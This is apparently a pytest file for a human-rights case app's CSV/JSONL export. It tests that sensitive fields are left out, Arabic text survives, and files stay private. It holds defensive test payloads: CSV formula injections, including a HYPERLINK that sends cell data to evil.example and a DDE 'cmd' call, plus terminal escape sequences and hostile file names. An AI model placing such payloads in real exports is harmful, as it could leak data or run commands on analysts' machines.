"""admin export: one file per form, sensitive fields left out, Arabic intact in spreadsheets,
and nothing a spreadsheet or a terminal would run."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import random
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from fieldsync.errors import OutputPathError
from fieldsync.services import attachments, export, records
from fieldsync.services.forms import get_form
from fieldsync.store.store import Store
from tests import generated
from tests.conftest import example, fast_store
from tests.services.conftest import in_conflict


@pytest.fixture
def analyst(tmp_path: Path) -> Iterator[Store]:
    with fast_store(tmp_path / "analyst", admin=True) as store:
        yield store


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode())  # spreadsheets then read it as UTF-8
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_keeps_arabic_and_flattens_lists_as_documented(analyst: Store, tmp_path: Path) -> None:
    record = records.create(analyst, get_form("incident"), example("incident"))
    done = export.export_records(analyst, tmp_path, "csv", form="incident")
    (written,) = done.files
    assert written.path.name == "incident.v1.csv" and written.rows == 1
    assert oct(written.path.stat().st_mode & 0o777) == "0o600"
    (row,) = read_csv(written.path)
    assert row["record"] == record and row["form"] == "incident@1"
    assert row["location.place"] == "كفرنبل"
    assert row["narrative"].endswith("الطابق الأرضي دُمّر.")
    assert row["violations"] == "attack_on_vital_facility; outlawed_weapon"
    assert row["victims.individuals.age"] == "7; 34"
    assert row["victims.individuals.status"] == "killed; injured"
    assert row["victims.individuals.role"] == "; medical_personnel"  # the first has none
    assert row["in_conflict"] == "no"


def test_sensitive_fields_are_left_out_unless_asked_for(analyst: Store, tmp_path: Path) -> None:
    answers = example("incident")
    answers["location"]["coordinates"] = {"latitude": "35.6", "longitude": "36.7"}
    answers["sources"][0]["contact"] = "+963 555 0101"
    records.create(analyst, get_form("incident"), answers)
    interview = {**example("interview"), "interviewee_name": "ليلى", "interviewee_contact": "x@y.z"}
    records.create(analyst, get_form("interview"), interview)
    records.create(analyst, get_form("disappearance"), example("disappearance"))
    secrets = [
        "سارة",
        "محمد",
        "35.6",
        "+963 555 0101",
        "ليلى",
        "x@y.z",
        "Gaziantep",
        "R. K.",
        example("disappearance")["person"]["name"],
    ]
    for fmt in ("csv", "jsonl"):
        plain = tmp_path / f"plain-{fmt}"
        plain.mkdir()
        export.export_records(analyst, plain, fmt)
        written = b"".join(p.read_bytes() for p in sorted(plain.iterdir()))
        for secret in secrets:
            assert secret.encode() not in written, (fmt, secret)
        full = tmp_path / f"full-{fmt}"
        full.mkdir()
        export.export_records(analyst, full, fmt, include_sensitive=True)
        written = b"".join(p.read_bytes() for p in sorted(full.iterdir()))
        for secret in secrets:
            assert secret.encode() in written, (fmt, secret)
    header = read_csv(tmp_path / "plain-csv" / "incident.v1.csv")[0].keys()
    assert "victims.individuals.name" not in header and "sources.contact" not in header
    assert not any(h.startswith("location.coordinates") for h in header)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formulas_in_any_text_cell_are_neutralised(
    analyst: Store, tmp_path: Path, text: str
) -> None:
    answers = example("incident")
    answers["narrative"] = text
    answers["sources"][0]["description"] = text
    answers["location"]["district"] = text
    records.create(analyst, get_form("incident"), answers)
    export.export_records(analyst, tmp_path, "csv", form="incident")
    (row,) = read_csv(tmp_path / "incident.v1.csv")
    for column in ("narrative", "sources.description", "location.district"):
        assert row[column].startswith("'"), column
        assert row[column][1:] == text  # nothing else changed


def test_terminal_escapes_and_separators_are_written_visibly(
    analyst: Store, tmp_path: Path
) -> None:
    answers = example("incident")
    answers["narrative"] = "line one\x1b[2J\x9b31m\u202eevil"
    answers["sources"].append({"type": "relative", "certainty": "low", "description": "a; b \\ c"})
    record = records.create(analyst, get_form("incident"), answers)
    export.export_records(analyst, tmp_path, "csv", form="incident")
    export.export_records(analyst, tmp_path, "jsonl", form="incident")
    csv_bytes = (tmp_path / "incident.v1.csv").read_bytes()
    jsonl_bytes = (tmp_path / "incident.v1.jsonl").read_bytes()
    for raw in (csv_bytes, jsonl_bytes):
        assert b"\x1b" not in raw and "\x9b".encode() not in raw and "\u202e".encode() not in raw
    (row,) = read_csv(tmp_path / "incident.v1.csv")
    assert row["narrative"] == "line one\\x1b[2J\\x9b31m\\u202eevil"
    assert row["sources.description"] == "nurse on duty; a\\; b \\\\ c"
    (line,) = jsonl_bytes.decode().splitlines()
    value = json.loads(line)  # JSON gives back exactly what was recorded
    assert value["record"] == record
    assert value["answers"]["narrative"] == "line one\x1b[2J\x9b31m\u202eevil"


def test_a_record_in_conflict_is_flagged_with_its_fields(analyst: Store, tmp_path: Path) -> None:
    record = records.create(analyst, get_form("incident"), example("incident"))
    in_conflict(analyst, record, "narrative", ("first account", "second account"))
    export.export_records(analyst, tmp_path, "csv", form="incident")
    export.export_records(analyst, tmp_path, "jsonl", form="incident")
    (row,) = read_csv(tmp_path / "incident.v1.csv")
    assert row["in_conflict"] == "yes" and row["conflict_fields"] == "narrative"
    assert row["narrative"] in ("first account", "second account")  # the provisional value
    assert len(row["current"].split("; ")) == 2  # both heads are named
    value = json.loads((tmp_path / "incident.v1.jsonl").read_text(encoding="utf-8"))
    assert value["in_conflict"] is True and value["conflict_fields"] == ["narrative"]


def test_attachments_are_listed_by_hash_and_their_names_are_sensitive(
    analyst: Store, tmp_path: Path
) -> None:
    record = records.create(analyst, get_form("incident"), example("incident"))
    photo = tmp_path / "ahmad-at-the-checkpoint.jpg"
    photo.write_bytes(b"\xff\xd8 not really a jpeg")
    attachments.attach(analyst, record, [photo])
    out = tmp_path / "out"
    out.mkdir()
    export.export_records(analyst, out, "csv", form="incident")
    (row,) = read_csv(out / "incident.v1.csv")
    assert row["attachments.sha256"] == hashlib.sha256(photo.read_bytes()).hexdigest()
    assert row["attachments.size"] == str(photo.stat().st_size)
    assert b"ahmad" not in (out / "incident.v1.csv").read_bytes()
    export.export_records(analyst, out, "csv", form="incident", include_sensitive=True, force=True)
    assert read_csv(out / "incident.v1.csv")[0]["attachments.name"] == photo.name


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("evil.example","click").jpg', "+cmd|' C calc'!A0", "@x", "-1+1"]
)
def test_a_hostile_attachment_name_is_neutralised_in_csv(
    analyst: Store, tmp_path: Path, name: str
) -> None:
    record = records.create(analyst, get_form("incident"), example("incident"))
    hostile = tmp_path / "in" / name  # a file name a spreadsheet would run as a formula
    hostile.parent.mkdir()
    hostile.write_bytes(b"bytes")
    attachments.attach(analyst, record, [hostile])
    out = tmp_path / "out"
    out.mkdir()
    export.export_records(analyst, out, "csv", form="incident", include_sensitive=True)
    (row,) = read_csv(out / "incident.v1.csv")
    assert row["attachments.name"] == "'" + name


def test_existing_files_are_kept_without_force(analyst: Store, tmp_path: Path) -> None:
    export.export_records(analyst, tmp_path, "jsonl")
    before = (tmp_path / "incident.v1.jsonl").read_bytes()
    records.create(analyst, get_form("incident"), example("incident"))
    with pytest.raises(OutputPathError, match="already exist"):
        export.export_records(analyst, tmp_path, "jsonl")
    assert (tmp_path / "incident.v1.jsonl").read_bytes() == before
    with pytest.raises(OutputPathError, match="is a file, not a folder"):
        export.export_records(analyst, tmp_path / "incident.v1.jsonl", "jsonl")


def test_a_missing_export_folder_is_made_private(analyst: Store, tmp_path: Path) -> None:
    """`export --out DIR` refused a folder that did not exist yet."""
    out = tmp_path / "new" / "exports"
    done = export.export_records(analyst, out, "csv", form="incident")
    assert [w.path for w in done.files] == [out / "incident.v1.csv"]
    assert out.is_dir() and (out / "incident.v1.csv").is_file()
    assert stat.S_IMODE(out.stat().st_mode) == stat.S_IMODE(out.parent.stat().st_mode) == 0o700


def test_generated_records_export_one_row_each(analyst: Store, tmp_path: Path) -> None:
    rng = random.Random(7)
    made = {
        records.create(analyst, get_form("incident"), generated.incident(rng)) for _ in range(120)
    }
    done = export.export_records(analyst, tmp_path, "csv", form="incident")
    rows = read_csv(done.files[0].path)
    assert {row["record"] for row in rows} == made
    for row in rows:  # list columns keep one value per listed individual
        ages = row["victims.individuals.age"]
        statuses = row["victims.individuals.status"]
        assert len(ages.split("; ")) == len(statuses.split("; ")) or not statuses
